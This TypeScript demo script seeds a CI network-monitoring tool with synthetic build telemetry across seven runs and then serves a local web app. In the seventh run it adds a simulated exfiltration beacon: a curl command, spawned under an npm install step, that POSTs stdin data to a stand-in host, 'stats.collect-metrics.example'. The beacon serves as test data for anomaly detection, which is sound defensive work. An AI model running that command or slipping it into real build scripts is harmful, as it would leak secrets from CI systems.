import { createServer } from "node:http";
import { getRequestListener } from "@hono/node-server";
import { createMonitor, memoryStore, silentLogger } from "@straycall/core";
import { createApp } from "./app.js";
import { pageLinks } from "./page-links.js";
import { terminalNotifier } from "./terminal-notifier.js";

const store = memoryStore();
const publicUrl = "http://127.0.0.1:4299";
const monitor = createMonitor({
  store,
  notifiers: [terminalNotifier(console.log)],
  links: pageLinks(publicUrl),
});
const job = {
  platform: "github",
  repository: "acme/web-shop",
  workflow: ".github/workflows/ci.yml",
  job: "build",
};
const hosts = [
  [
    "git.acme.example",
    "203.0.113.10",
    443,
    ["git-remote-https", "origin", "https://git.acme.example/acme/web-shop"],
    "GET",
    "/acme/web-shop/info/refs?service=git-upload-pack",
  ],
  [
    "packages.acme.example",
    "2001:db8:20::1",
    443,
    ["node", "/usr/bin/npm", "ci", "--no-fund"],
    "GET",
    "/fast-image/-/fast-image-2.4.0.tgz",
  ],
  [
    "cdn.acme.example",
    "198.51.100.31",
    443,
    ["node", "install.js"],
    "GET",
    "/fast-image/v2.4.0/linux-x64.node",
  ],
  [
    "api.acme.example",
    "2001:db8:40::1",
    443,
    [
      "curl",
      "--fail",
      "--silent",
      "--show-error",
      "--retry",
      "2",
      "https://api.acme.example/health",
    ],
    "GET",
    "/health",
  ],
  [
    "artifacts.acme.example",
    "198.51.100.50",
    443,
    ["node", "/home/runner/work/_actions/actions/upload-artifact/v4/dist/index.js"],
    "PUT",
    "/runs/1/test-report",
  ],
] as const;
const bad = [
  "stats.collect-metrics.example",
  "198.51.100.166",
  8443,
  [
    "curl",
    "--silent",
    "--max-time",
    "10",
    "--request",
    "POST",
    "--data-binary",
    "@-",
    "https://stats.collect-metrics.example:8443/v2/report",
  ],
  "POST",
  "/v2/report",
] as const;
for (let r = 1; r <= 7; r += 1) {
  const t0 = Date.now() - (7 - r) * 5 * 3600e3 - 20000;
  const events: unknown[] = [
    {
      id: "s",
      time: t0,
      type: "run.started",
      run: {
        commit: `ab7a2872ef516a5a73433854486c6d9${r}`,
        ref: "refs/heads/main",
        event: r === 3 ? "pull_request" : "push",
        actor: r === 7 ? "update-bot" : "mira",
        runner: "runner-07",
        url: "https://git.acme.example/acme/web-shop/actions/runs/981",
        startedAt: t0,
      },
    },
    {
      id: "c",
      time: t0,
      type: "capture.started",
      agent: {
        name: "linux",
        ...(r === 2 ? { blind_spots: ["Raw AF_PACKET sockets are not seen."] } : {}),
      },
    },
    {
      id: "p1",
      time: t0,
      type: "process.exec",
      process: {
        pid: 100,
        entity_id: "e100",
        executable: "/usr/bin/bash",
        args: ["bash", "/home/runner/actions-runner/job.sh"],
        working_directory: "/home/runner",
      },
    },
    {
      id: "p2",
      time: t0,
      type: "process.exec",
      process: {
        pid: 101,
        entity_id: "e101",
        parent: { pid: 100, entity_id: "e100" },
        executable: "/usr/bin/node",
        args: ["node", "/usr/bin/npm", "ci", "--no-fund"],
      },
      step: { id: "__run", action: undefined },
    },
    {
      id: "p3",
      time: t0,
      type: "process.exec",
      process: {
        pid: 102,
        entity_id: "e102",
        parent: { pid: 101, entity_id: "e101" },
        executable: "/usr/bin/sh",
        args: ["sh", "-c", "node install.js"],
      },
    },
  ];
  [...hosts, ...(r === 7 ? [bad] : [])].forEach(([name, ip, port, args, method, path], i) => {
    const time = t0 + i * 1500;
    const id = `c${i}`;
    const p = { pid: 200 + i, entity_id: `e2${i}`, parent: { pid: 102, entity_id: "e102" } };
    events.push(
      {
        id: `x${i}`,
        time,
        type: "process.exec",
        process: { ...p, executable: `/usr/bin/${args[0]}`, args },
      },
      {
        id: `d${i}`,
        time,
        type: "dns.answer",
        process: p,
        dns: {
          question: { name, type: "A" },
          answers: [{ name, type: ip.includes(":") ? "AAAA" : "A", data: ip }],
        },
      },
      {
        id: `n${i}`,
        time,
        type: "network.connect",
        connection: { id },
        process: p,
        destination: { ip, port },
        network: { transport: "tcp" },
      },
      { id: `r${i}`, time, type: "network.result", connection: { id }, result: "established" },
      {
        id: `h${i}`,
        time: time + 20,
        type: "http.request",
        connection: { id },
        http: { request: { method } },
        url: { domain: name, path },
      },
      {
        id: `l${i}`,
        time: time + 300,
        type: "network.close",
        connection: { id },
        source: { bytes: 2310 * (i + 1) },
        destination: { bytes: 184213 },
      },
    );
  });
  events.push({
    id: "end",
    time: t0 + 20000,
    type: "run.finished",
    run: { outcome: r === 4 ? "failure" : "success" },
  });
  const got = await monitor.ingest({ run: { job, runId: `98172${r}4401` }, events });
  if (got.rejected.length) console.log(JSON.stringify(got.rejected));
}
const app = createApp({
  monitor,
  store,
  logger: silentLogger,
  settings: {
    ingestToken: "x".repeat(20),
    publicUrl,
    learningRuns: 5,
    recordedJobs: new Set(["github:acme/web-shop:.github/workflows/ci.yml:build"]),
  },
});
createServer(getRequestListener(app.fetch)).listen(4299, "127.0.0.1");
